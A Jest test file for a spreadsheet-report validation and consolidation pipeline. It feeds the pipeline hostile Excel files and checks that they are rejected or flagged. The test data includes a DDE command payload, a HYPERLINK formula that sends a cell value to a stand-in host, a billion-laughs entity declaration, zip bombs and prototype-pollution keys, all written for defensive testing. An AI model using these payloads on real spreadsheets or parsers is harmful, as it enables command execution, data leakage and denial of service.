/**
 * The adversarial corpus: returned files an agency could send by mistake or by malice, each built
 * in code, each taken through the pipeline the officer runs (gate, parser, validation,
 * consolidation into a master). For every file: the finding codes it must get, nothing thrown,
 * the master's other tables untouched and its report tables changed only by the rows the file may
 * give, within the safety bounds of time and memory.
 */
import type ExcelJS from 'exceljs';
import { FileCheck } from '../../src/app/validate';
import type { FindingCode } from '../../src/domain/finding';
import { isoToExcelSerial } from '../../src/domain/vn/date';
import type { Reports } from '../../src/domain/report';
import type { GateLimits } from '../../src/workbook/gate/limits';
import { type Edit, HEADER_ROW, rowOf, setRow, sheetOf } from '../rules/validate/returns';
import {
  type HostileFile,
  appendRow,
  emptyRowsXml,
  emptyZip,
  excelEdited,
  farEmptyCellsXml,
  metaField,
  numberRowsXml,
  oleFile,
  packageEdited,
  partEdited,
  reverseColumns,
  rowValues,
  sheetXmlEdited,
  spreadBomb,
  textFile,
  truncated,
  truncatedAt,
  zipBomb,
} from './hostileFiles';
import { consolidateOne, masterWithOneReport } from './masterRun';
import { MAX_HEAP_GROWTH_BYTES, MAX_SECONDS } from './safetyBounds';

const MiB = 1024 * 1024;

/** Every row the form sent to Sở Công Thương holds. */
const ALL_ROWS = ['I.1', 'I.2', 'II.3', 'DA-02', 'CT-01', 'CT-02'];
const allBut = (...ids: string[]): string[] => ALL_ROWS.filter((id) => !ids.includes(id));

interface CorpusCase {
  readonly name: string;
  readonly file: () => Promise<HostileFile>;
  /** The distinct finding codes of the file. */
  readonly codes: readonly FindingCode[];
  /** `rejected`: nothing of the file reaches the report tables; else the ids of the rows accepted. */
  readonly outcome: 'rejected' | readonly string[];
  /** Gate limits lowered for the case, so that a bomb needs no hundreds of megabytes. */
  readonly limits?: Partial<GateLimits>;
  /** What the master must hold afterwards besides (the report tables after, the file's sha256). */
  readonly then?: (after: Reports, sha256: string) => void;
}

const PROTO_NAMES = ['__proto__', 'constructor', 'prototype'];
const prototypeKeys = (): string[] => Object.getOwnPropertyNames(Object.prototype).sort();
const PROTOTYPE_KEYS = prototypeKeys();

function expectNoPollution(): void {
  expect(({} as Record<string, unknown>).polluted).toBeUndefined();
  expect(prototypeKeys()).toEqual(PROTOTYPE_KEYS);
}

/** The row of I.1 on Nhiệm vụ, with `values` by header. */
const taskI1 = (values: Readonly<Record<string, ExcelJS.CellValue>>): Edit => setRow('Nhiệm vụ', 'I.1', values);

const taskOf = (reports: Reports, sha256: string, taskId: string) => {
  const task = reports.tasks.find((row) => row.submissionId === sha256 && row.taskId === taskId);
  if (task === undefined) throw new Error(`no report of ${taskId}`);
  return task;
};

const MIXED_SCRIPTS = 'Đã hoàn thành 🎉🏭👩🏽‍🔧 — khu công nghiệp 工业园区 — المنطقة الصناعية — Tiếng Việt tổ hợp: Nghie\u0302\u0323m thu';

const DDE = `=cmd|' /C calc'!A0`;

/** `CONCAT("ab","ab",…)`: five characters a piece. */
const longFormula = (pieces: number): string => `CONCAT(${Array.from({ length: pieces }, () => '"ab"').join(',')})`;

/** A done task: 100 % and the day it was done. */
const done = { 'Tỷ lệ hoàn thành (%)': 100, 'Ngày hoàn thành': new Date(Date.UTC(2022, 10, 15)) };

/** Eleven ways officials write a status, and what each means. */
const SPELLINGS: readonly (readonly [string, 'done' | 'in-progress' | 'not-started' | 'not-done'])[] = [
  ['HT', 'done'],
  ['hoàn thành', 'done'],
  ['HOÀN THÀNH', 'done'],
  ['Đã hoàn thành', 'done'],
  ['hoan thanh', 'done'],
  ['  Hoàn   thành. ', 'done'],
  ['“Hoàn thành”', 'done'],
  ['Đang TH', 'in-progress'],
  ['đang thực hiện', 'in-progress'],
  ['Chưa TH', 'not-started'],
  ['Không thực hiện.', 'not-done'],
];

const answersFor: Readonly<Record<(typeof SPELLINGS)[number][1], Readonly<Record<string, ExcelJS.CellValue>>>> = {
  done,
  'in-progress': { 'Tỷ lệ hoàn thành (%)': 60 },
  'not-started': { 'Tỷ lệ hoàn thành (%)': 0 },
  'not-done': { 'Tỷ lệ hoàn thành (%)': null },
};

const statusCases: CorpusCase[] = SPELLINGS.map(([spelling, meaning]) => ({
  name: `status written "${spelling}"`,
  file: excelEdited(taskI1({ 'Tình trạng': spelling, ...answersFor[meaning] })),
  codes: [],
  outcome: ALL_ROWS,
  then: (after, sha256) => expect(taskOf(after, sha256, 'I.1').status).toBe(meaning),
}));

const CUTS: readonly (readonly [string, () => Promise<HostileFile>])[] = [
  ['after 1 byte', truncated(1)],
  ['inside the first part header (30 bytes)', truncated(30)],
  ['at 50 %', truncatedAt(0.5)],
  ['at 90 %', truncatedAt(0.9)],
  ['before the end record (22 bytes short)', truncated(-22)],
  ['one byte short', truncated(-1)],
];

const truncationCases: CorpusCase[] = CUTS.map(([where, file]) => ({ name: `zip truncated ${where}`, file, codes: ['file-unreadable'], outcome: 'rejected' }));

const CORPUS: readonly CorpusCase[] = [
  // Not a workbook at all.
  { name: 'zero-byte file', file: textFile(''), codes: ['file-unreadable'], outcome: 'rejected' },
  { name: 'file of blanks and line breaks', file: textFile(' \r\n\t\n  '), codes: ['file-unreadable'], outcome: 'rejected' },
  { name: 'zip with no parts', file: emptyZip, codes: ['file-unreadable'], outcome: 'rejected' },
  { name: 'CSV renamed .xlsx', file: textFile('Mã;Tình trạng;Tỷ lệ hoàn thành (%)\nI.1;Hoàn thành;100\n'), codes: ['file-unreadable'], outcome: 'rejected' },
  {
    name: 'HTML table renamed .xlsx',
    file: textFile('<html><head><meta charset="utf-8"></head><body><table><tr><td>I.1</td><td>Hoàn thành</td></tr></table></body></html>'),
    codes: ['file-unreadable'],
    outcome: 'rejected',
  },
  ...truncationCases,

  // Hostile packages, refused by the gate before any parser.
  { name: 'zip bomb: a sheet inflating to 200 MiB of zeros', file: zipBomb(200), codes: ['zip-bomb'], outcome: 'rejected' },
  {
    name: 'zip bomb spread over 12 parts of 1 MiB (limit lowered to 8 MiB in all)',
    file: spreadBomb(12),
    limits: { maxTotalInflated: 8 * MiB },
    codes: ['zip-bomb'],
    outcome: 'rejected',
  },
  { name: 'a 21 MiB file', file: spreadBomb(21), codes: ['file-too-large'], outcome: 'rejected' },
  {
    name: 'a value on row 150,000 (past the reader’s row limit)',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace('</sheetData>', '<row r="150000"><c r="A150000" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')),
    codes: ['file-too-large'],
    outcome: 'rejected',
  },
  {
    name: 'a value in column KN (past the reader’s column limit)',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace('</sheetData>', '<row r="40"><c r="KN40" t="inlineStr"><is><t>x</t></is></c></row></sheetData>')),
    codes: ['file-too-large'],
    outcome: 'rejected',
  },
  { name: 'password to open (OLE with EncryptionInfo)', file: oleFile(['EncryptionInfo', 'EncryptedPackage']), codes: ['encrypted'], outcome: 'rejected' },
  { name: 'Excel 97-2003 .xls', file: oleFile(['Workbook', '\u0005SummaryInformation'], '2022_SCT.xls'), codes: ['legacy-format'], outcome: 'rejected' },
  { name: 'Excel 97-2003 .xls renamed .xlsx', file: oleFile(['Workbook']), codes: ['legacy-format'], outcome: 'rejected' },
  {
    name: 'macros (xl/vbaProject.bin)',
    file: packageEdited(async (zip) => void zip.file('xl/vbaProject.bin', new Uint8Array([0xd0, 0xcf, 0x11, 0xe0, 1, 2, 3]))),
    codes: ['macro-present'],
    outcome: 'rejected',
  },
  {
    name: 'DOCTYPE with entities (billion laughs) in the shared strings',
    file: partEdited('xl/sharedStrings.xml', (xml) =>
      xml.replace('?>', '?><!DOCTYPE sst [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>'),
    ),
    codes: ['xml-doctype'],
    outcome: 'rejected',
  },
  {
    name: 'a million-row dimension A1:XFD1048576',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace(/<dimension ref="[^"]*"\/>/, '<dimension ref="A1:XFD1048576"/>')),
    codes: ['too-many-cells'],
    outcome: 'rejected',
  },
  {
    name: 'a column format reaching column 4,294,967,296',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace(/<col min="5" max="5"/, '<col min="5" max="4294967296"')),
    codes: ['too-many-cells'],
    outcome: 'rejected',
  },
  {
    name: 'a data validation over every cell of columns A to J',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace(/<dataValidation (.*?)sqref="[^"]*"/, '<dataValidation $1sqref="A1:J1048576"')),
    codes: ['too-many-cells'],
    outcome: 'rejected',
  },
  {
    name: 'a data validation over two whole columns (still read)',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace(/<dataValidation (.*?)sqref="[^"]*"/, '<dataValidation $1sqref="E1:E1048576 G1:G1048576"')),
    codes: [],
    outcome: ALL_ROWS,
  },
  {
    name: 'a defined name over the whole sheet',
    file: partEdited('xl/workbook.xml', (xml) => xml.replace('<definedNames>', `<definedNames><definedName name="Vung">'Nhiệm vụ'!$A$1:$XFD$1048576</definedName>`)),
    codes: ['too-many-cells'],
    outcome: 'rejected',
  },
  { name: 'a 40,000-character answer', file: excelEdited(taskI1({ 'Kết quả thực hiện': 'Đã hoàn thành. '.repeat(2_700) })), codes: ['cell-too-long'], outcome: 'rejected' },
  {
    name: 'an external link to another workbook (a warning: stored values are read)',
    file: packageEdited(async (zip) => {
      zip.file(
        'xl/externalLinks/externalLink1.xml',
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<externalLink xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><externalBook xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:id="rId1"/></externalLink>',
      );
    }),
    codes: ['external-link'],
    outcome: ALL_ROWS,
  },

  // The hidden _meta sheet.
  { name: '_meta deleted', file: excelEdited((book) => book.removeWorksheet(sheetOf(book, '_meta').id)), codes: ['not-a-template'], outcome: 'rejected' },
  { name: '_meta: another plan id', file: excelEdited(metaField('planId', 'kg-157-kh-ubnd')), codes: ['wrong-plan'], outcome: 'rejected' },
  { name: '_meta: an agency not in the plan', file: excelEdited(metaField('agencyId', 'kg.khong-co')), codes: ['wrong-agency'], outcome: 'rejected' },
  {
    name: '_meta: another agency of the plan, in a file named for Sở Công Thương',
    file: excelEdited(metaField('agencyId', 'kg.stc'), metaField('agencyName', 'Sở Tài chính')),
    codes: ['stale-template', 'wrong-agency'],
    outcome: 'rejected',
  },
  { name: '_meta: a plan id of 32,767 characters', file: excelEdited(metaField('planId', 'kg-'.repeat(10_922) + 'x')), codes: ['wrong-plan'], outcome: 'rejected' },
  {
    name: '_meta: an agency not in the plan, named in 32,767 characters',
    file: excelEdited(metaField('agencyId', 'kg.khong-co'), metaField('agencyName', 'Sở '.repeat(10_922) + 'x')),
    codes: ['wrong-agency'],
    outcome: 'rejected',
  },
  { name: '_meta: garbage hash', file: excelEdited(metaField('planHash', '=1+1 ☃ not a hash')), codes: ['not-a-template'], outcome: 'rejected' },
  { name: '_meta: a well-formed hash of other plan rows', file: excelEdited(metaField('planHash', 'ab'.repeat(32))), codes: ['stale-template'], outcome: 'rejected' },
  {
    name: '_meta: a __proto__ field',
    file: excelEdited((book) => sheetOf(book, '_meta').addRow(['__proto__', '{"polluted":"yes"}'])),
    codes: [],
    outcome: ALL_ROWS,
    then: expectNoPollution,
  },

  // Sheets renamed, hidden, added.
  { name: 'Nhiệm vụ renamed "Sheet1"', file: excelEdited((book) => void (sheetOf(book, 'Nhiệm vụ').name = 'Sheet1')), codes: [], outcome: ALL_ROWS },
  { name: 'Nhiệm vụ hidden', file: excelEdited((book) => void (sheetOf(book, 'Nhiệm vụ').state = 'hidden')), codes: [], outcome: ALL_ROWS },
  { name: 'Nhiệm vụ very hidden', file: excelEdited((book) => void (sheetOf(book, 'Nhiệm vụ').state = 'veryHidden')), codes: [], outcome: ALL_ROWS },
  {
    name: 'Nhiệm vụ renamed and very hidden',
    file: excelEdited((book) => {
      const sheet = sheetOf(book, 'Nhiệm vụ');
      sheet.name = 'Sheet1';
      sheet.state = 'veryHidden';
    }),
    codes: ['missing-sheet'],
    outcome: 'rejected',
  },
  { name: 'Nhiệm vụ deleted', file: excelEdited((book) => book.removeWorksheet(sheetOf(book, 'Nhiệm vụ').id)), codes: ['missing-sheet'], outcome: 'rejected' },
  {
    name: 'sheets named __proto__, constructor and prototype',
    file: excelEdited((book) => PROTO_NAMES.forEach((name) => book.addWorksheet(name).addRow(['Mã', 'Tình trạng', '{"polluted":"yes"}']))),
    codes: [],
    outcome: ALL_ROWS,
    then: expectNoPollution,
  },
  {
    name: '50 extra sheets, one a copy of Nhiệm vụ’s headers',
    file: excelEdited((book) => {
      for (let index = 1; index <= 50; index++) book.addWorksheet(`Trang ${index}`).addRow(['Ghi chú', `Bản nháp ${index}`]);
      book.addWorksheet('Nhiệm vụ (2)').addRow(rowValues(book, 'Nhiệm vụ', HEADER_ROW));
    }),
    codes: [],
    outcome: ALL_ROWS,
  },
  {
    name: 'every column in reverse order, on all three sheets',
    file: excelEdited(reverseColumns('Nhiệm vụ'), reverseColumns('Dự án'), reverseColumns('Chỉ tiêu')),
    codes: [],
    outcome: ALL_ROWS,
    then: (after, sha256) => expect(taskOf(after, sha256, 'I.1')).toMatchObject({ status: 'in-progress', percent: 60, result: 'Đã tổ chức 2 hội nghị.' }),
  },

  // Rows deleted, invented, duplicated.
  {
    name: 'a row deleted (I.2)',
    file: excelEdited((book) => sheetOf(book, 'Nhiệm vụ').spliceRows(rowOf(sheetOf(book, 'Nhiệm vụ'), 'I.2'), 1)),
    codes: ['missing-row'],
    outcome: allBut('I.2'),
  },
  {
    name: 'an invented row',
    file: excelEdited(appendRow('Nhiệm vụ', ['I.9', 'Tổ chức đoàn khảo sát (đơn vị tự thêm).', 'Chủ trì', '2022', 'Hoàn thành', 100, new Date(Date.UTC(2022, 9, 20))])),
    codes: ['unknown-id'],
    outcome: ALL_ROWS,
  },
  {
    name: 'a duplicated row (I.1 twice)',
    file: excelEdited((book) => appendRow('Nhiệm vụ', rowValues(book, 'Nhiệm vụ', rowOf(sheetOf(book, 'Nhiệm vụ'), 'I.1')))(book)),
    codes: ['duplicate-id'],
    outcome: allBut('I.1'),
  },
  {
    name: 'invented rows with ids __proto__, constructor and prototype',
    file: excelEdited(...PROTO_NAMES.map((id) => appendRow('Nhiệm vụ', [id, '{"polluted":"yes"}', 'Chủ trì', '2022', 'Đang triển khai', 50]))),
    codes: ['unknown-id'],
    outcome: ALL_ROWS,
    then: expectNoPollution,
  },
  {
    name: '2,000 pasted rows of numbers, all with the id 0',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace('</sheetData>', `${numberRowsXml(20, 2_000)}</sheetData>`)),
    codes: ['duplicate-id', 'invalid-date', 'invalid-enum', 'unknown-id'],
    outcome: ALL_ROWS,
    then: (after, sha256) => {
      const quarantined = after.quarantine.filter((row) => row.submissionId === sha256);
      expect(quarantined).toHaveLength(2_000);
      // Each row's reasons name a few of the other rows, not all 2,000 (which grew with the square of the rows).
      expect(Math.max(...quarantined.map((row) => row.reason_vi.length))).toBeLessThan(3_000);
    },
  },
  {
    name: '10,000 empty rows below the table',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace('</sheetData>', `${emptyRowsXml(20, 10_000)}</sheetData>`)),
    codes: [],
    outcome: ALL_ROWS,
  },

  // Headers and answers.
  {
    name: '100,000 rows whose only cell is a formatted, empty XFD',
    file: sheetXmlEdited('Nhiệm vụ', (xml) => xml.replace('</sheetData>', `${farEmptyCellsXml(20, 100_000)}</sheetData>`)),
    codes: [],
    outcome: ALL_ROWS,
  },
  {
    name: 'headers __proto__, constructor and prototype beside the table',
    file: excelEdited((book) => {
      const sheet = sheetOf(book, 'Nhiệm vụ');
      PROTO_NAMES.forEach((name, at) => {
        sheet.getCell(HEADER_ROW, 11 + at).value = name;
        sheet.getCell(HEADER_ROW + 1, 11 + at).value = '{"polluted":"yes"}';
      });
    }),
    codes: [],
    outcome: ALL_ROWS,
    then: expectNoPollution,
  },
  { name: 'a status written __proto__', file: excelEdited(taskI1({ 'Tình trạng': '__proto__' })), codes: ['invalid-enum'], outcome: allBut('I.1'), then: expectNoPollution },
  { name: 'a status written constructor', file: excelEdited(taskI1({ 'Tình trạng': 'constructor' })), codes: ['invalid-enum'], outcome: allBut('I.1'), then: expectNoPollution },
  { name: 'a status not in the list ("Tốt")', file: excelEdited(taskI1({ 'Tình trạng': 'Tốt' })), codes: ['invalid-enum'], outcome: allBut('I.1') },
  ...statusCases,
  {
    name: 'error values, TRUE and rich text in answers',
    file: excelEdited(
      taskI1({ 'Tỷ lệ hoàn thành (%)': { error: '#N/A' } as ExcelJS.CellErrorValue }),
      setRow('Nhiệm vụ', 'I.2', { 'Tỷ lệ hoàn thành (%)': true }),
      setRow('Nhiệm vụ', 'II.3', { 'Tình trạng': { richText: [{ text: 'Đang ', font: { bold: true } }, { text: 'triển khai' }] } }),
      setRow('Dự án', 'DA-02', { 'Thời gian hoàn thành dự kiến': { error: '#VALUE!' } as ExcelJS.CellErrorValue }),
    ),
    codes: ['invalid-number'],
    outcome: allBut('I.1', 'I.2', 'DA-02'),
  },
  {
    name: 'answer cells merged across a row',
    file: excelEdited((book) => {
      const sheet = sheetOf(book, 'Nhiệm vụ');
      const row = rowOf(sheet, 'I.1');
      sheet.mergeCells(row, 5, row, 10);
    }),
    codes: [],
    outcome: ALL_ROWS,
    then: (after, sha256) => expect(taskOf(after, sha256, 'I.1')).toMatchObject({ status: 'in-progress', percent: null, result: '', proposals: '' }),
  },
  {
    name: 'a hyperlink pasted as an answer’s value',
    file: excelEdited(taskI1({ 'Kết quả thực hiện': { text: 'Báo cáo chi tiết', hyperlink: 'https://example.invalid/bao-cao' } })),
    codes: [],
    outcome: ALL_ROWS,
    then: (after, sha256) => expect(taskOf(after, sha256, 'I.1').result).toBe('Báo cáo chi tiết'),
  },
  {
    name: 'the title and header rows deleted',
    file: excelEdited((book) => sheetOf(book, 'Nhiệm vụ').spliceRows(1, HEADER_ROW)),
    codes: ['missing-column'],
    outcome: 'rejected',
  },
  {
    name: 'twenty rows inserted above the header',
    file: excelEdited((book) => sheetOf(book, 'Nhiệm vụ').spliceRows(1, 0, ...Array.from({ length: 20 }, (_, at) => [`Dòng chèn ${at + 1}`]))),
    codes: [],
    outcome: ALL_ROWS,
  },
  {
    name: 'numbers out of range and extreme (1e308, -0, 1e-300)',
    file: excelEdited(
      taskI1({ 'Tỷ lệ hoàn thành (%)': 1e308 }),
      setRow('Nhiệm vụ', 'I.2', { 'Tỷ lệ hoàn thành (%)': -0 }),
      setRow('Dự án', 'DA-02', { 'Vốn đã giải ngân lũy kế (tỷ đồng)': 1e-300 }),
      setRow('Chỉ tiêu', 'CT-01', { 'Thực hiện': -1e308 }),
    ),
    codes: ['out-of-range'],
    outcome: allBut('I.1', 'CT-01'),
    then: (after, sha256) => {
      expect(Object.is(taskOf(after, sha256, 'I.2').percent, 0)).toBe(true);
      expect(after.projects.find((row) => row.submissionId === sha256)?.disbursed).toBe(1e-300);
    },
  },
  {
    name: 'emoji and mixed scripts (Vietnamese, Chinese, Arabic, combining marks) in answers',
    file: excelEdited(taskI1({ 'Kết quả thực hiện': MIXED_SCRIPTS, 'Khó khăn, vướng mắc': '👍', 'Đề xuất, kiến nghị': 'ok\u200b\u202e' })),
    codes: [],
    outcome: ALL_ROWS,
    then: (after, sha256) => expect(taskOf(after, sha256, 'I.1')).toMatchObject({ result: MIXED_SCRIPTS, obstacles: '👍', proposals: 'ok\u200b\u202e' }),
  },
  {
    name: 'a pasted =HYPERLINK(…) formula in an answer',
    file: excelEdited(taskI1({ 'Kết quả thực hiện': { formula: 'HYPERLINK("http://example.invalid/?d="&A4,"Xem kết quả")', result: 'Xem kết quả' } })),
    codes: ['formula-injection'],
    outcome: allBut('I.1'),
  },
  {
    name: 'a DDE text in a text answer (a warning: kept as inert text)',
    file: excelEdited(taskI1({ 'Kết quả thực hiện': DDE })),
    codes: ['formula-injection'],
    outcome: ALL_ROWS,
    then: (after, sha256) => expect(taskOf(after, sha256, 'I.1').result).toBe(DDE),
  },
  { name: 'a DDE text in a number answer', file: excelEdited(taskI1({ 'Tỷ lệ hoàn thành (%)': DDE })), codes: ['formula-injection'], outcome: allBut('I.1') },
  {
    name: 'numbers as text in both locales',
    file: excelEdited(
      taskI1({ 'Tỷ lệ hoàn thành (%)': '60,5' }),
      setRow('Nhiệm vụ', 'I.2', { 'Tỷ lệ hoàn thành (%)': '60.5' }),
      setRow('Dự án', 'DA-02', { 'Vốn đã giải ngân lũy kế (tỷ đồng)': '1.234,5', 'Thời gian hoàn thành dự kiến': '2024' }),
      setRow('Chỉ tiêu', 'CT-01', { 'Thực hiện': '13,2' }),
      setRow('Chỉ tiêu', 'CT-02', { 'Thực hiện': '1,234.5' }),
    ),
    codes: [],
    outcome: ALL_ROWS,
    then: (after, sha256) => {
      expect([taskOf(after, sha256, 'I.1').percent, taskOf(after, sha256, 'I.2').percent]).toEqual([60.5, 60.5]);
      expect(after.projects.find((row) => row.submissionId === sha256)).toMatchObject({ disbursed: 1234.5, expectedCompletionYear: 2024 });
      expect(after.targets.filter((row) => row.submissionId === sha256).map((row) => row.actual)).toEqual([13.2, 1234.5]);
    },
  },
  {
    name: 'dates as text and as serials',
    file: excelEdited(
      taskI1({ 'Tình trạng': 'Hoàn thành', 'Tỷ lệ hoàn thành (%)': 100, 'Ngày hoàn thành': '15/11/2022' }),
      setRow('Nhiệm vụ', 'I.2', { 'Tình trạng': 'Hoàn thành', 'Tỷ lệ hoàn thành (%)': 100, 'Ngày hoàn thành': isoToExcelSerial('2022-11-15') }),
      setRow('Nhiệm vụ', 'II.3', { 'Tình trạng': 'Hoàn thành', 'Tỷ lệ hoàn thành (%)': 100, 'Ngày hoàn thành': 'ngày 15 tháng 11 năm 2022' }),
    ),
    codes: [],
    outcome: ALL_ROWS,
    then: (after, sha256) => expect(after.tasks.filter((row) => row.submissionId === sha256).map((row) => row.completedOn)).toEqual(['2022-11-15', '2022-11-15', '2022-11-15']),
  },
  {
    name: 'a row with an error whose answers fill three cells to Excel’s limit',
    file: excelEdited(
      taskI1({ 'Tình trạng': 'Tốt', 'Kết quả thực hiện': 'K'.repeat(32_767), 'Khó khăn, vướng mắc': 'V'.repeat(32_767), 'Đề xuất, kiến nghị': 'Đ'.repeat(32_767) }),
    ),
    codes: ['invalid-enum'],
    outcome: allBut('I.1'),
    then: (after, sha256) => {
      const values = after.quarantine.find((row) => row.submissionId === sha256)?.values ?? '';
      expect(values.length).toBeLessThanOrEqual(32_767);
      expect(values).toMatch(/^Mã: I\.1 \| .* more characters in the original file\]$/s);
    },
  },
  { name: 'a status of 32,767 characters', file: excelEdited(taskI1({ 'Tình trạng': 'Tốt'.repeat(10_922) + 'x' })), codes: ['invalid-enum'], outcome: allBut('I.1') },
  {
    name: 'an invented row whose id has 32,767 characters',
    file: excelEdited(appendRow('Nhiệm vụ', ['I.'.repeat(16_383) + 'x', 'Tự thêm.', 'Chủ trì', '2022', 'Tốt', 500, 'ngày mai'])),
    codes: ['invalid-date', 'invalid-enum', 'out-of-range', 'unknown-id'],
    outcome: ALL_ROWS,
  },
  {
    name: 'a formula of 40,000 characters (past Excel’s 8,192) in an answer',
    file: excelEdited(taskI1({ 'Kết quả thực hiện': { formula: longFormula(8_000), result: 'ab' } })),
    codes: ['cell-too-long'],
    outcome: 'rejected',
  },
  {
    name: 'a formula of 8,000 characters in the id column',
    file: excelEdited(taskI1({ Mã: { formula: longFormula(1_600), result: 'I.1' } })),
    codes: ['missing-row', 'unknown-id'],
    outcome: allBut('I.1'),
  },
];

describe('the adversarial corpus, through validation and consolidation', () => {
  let master: ArrayBuffer;

  beforeAll(async () => {
    master = await masterWithOneReport();
  }, 60_000);

  afterAll(expectNoPollution);

  test.each(CORPUS)('$name', async (corpusCase) => {
    const file = await corpusCase.file();
    const { before, after, run } = await consolidateOne(master, file, corpusCase.limits);

    // Nothing threw: the pipeline answered with typed findings.
    const result = run.value;
    if (!result.ok) throw new Error(`the master was refused: ${JSON.stringify(result.masterFindings)}`);
    const [outcome] = result.files;
    if (outcome === undefined) throw new Error('no outcome for the file');
    expect(FileCheck.parse(outcome.check)).toEqual(outcome.check);
    expect([...new Set(outcome.check.findings.map((finding) => finding.code))].sort()).toEqual([...corpusCase.codes].sort());
    const { sha256 } = outcome.check;

    // The plan tables are never touched.
    const reportTables = new Set(['tblTaskReports', 'tblProjectReports', 'tblTargetReports', 'tblSubmissions', 'tblQuarantine']);
    for (const [name, table] of Object.entries(before.tables)) if (!reportTables.has(name)) expect(after.tables[name]).toEqual(table);

    // The log gains one line; quarantined rows are the file's own, after the earlier ones.
    expect(after.reports.submissions.slice(0, -1)).toEqual(before.reports.submissions);
    expect(after.reports.submissions.at(-1)).toMatchObject({ id: sha256, fileName: file.fileName, outcome: corpusCase.outcome === 'rejected' ? 'rejected' : 'accepted' });
    expect(after.reports.quarantine.slice(0, before.reports.quarantine.length)).toEqual(before.reports.quarantine);
    expect(after.reports.quarantine.slice(before.reports.quarantine.length).every((row) => row.submissionId === sha256)).toBe(true);

    // The report rows: the earlier ones all kept; the file's own exactly those expected.
    const earlier = (rows: readonly { submissionId: string }[]) => rows.filter((row) => row.submissionId !== sha256);
    expect(earlier(after.reports.tasks)).toEqual(before.reports.tasks);
    expect(earlier(after.reports.projects)).toEqual(before.reports.projects);
    expect(earlier(after.reports.targets)).toEqual(before.reports.targets);
    const own = [
      ...after.reports.tasks.filter((row) => row.submissionId === sha256).map((row) => row.taskId),
      ...after.reports.projects.filter((row) => row.submissionId === sha256).map((row) => row.projectId),
      ...after.reports.targets.filter((row) => row.submissionId === sha256).map((row) => row.targetId),
    ];
    expect(own.sort()).toEqual(corpusCase.outcome === 'rejected' ? [] : [...corpusCase.outcome].sort());
    corpusCase.then?.(after.reports, sha256);

    // Safety bounds, not performance measurements.
    expect(run.seconds).toBeLessThan(MAX_SECONDS);
    expect(run.heapGrowthBytes).toBeLessThan(MAX_HEAP_GROWTH_BYTES);
  }, 60_000);
});
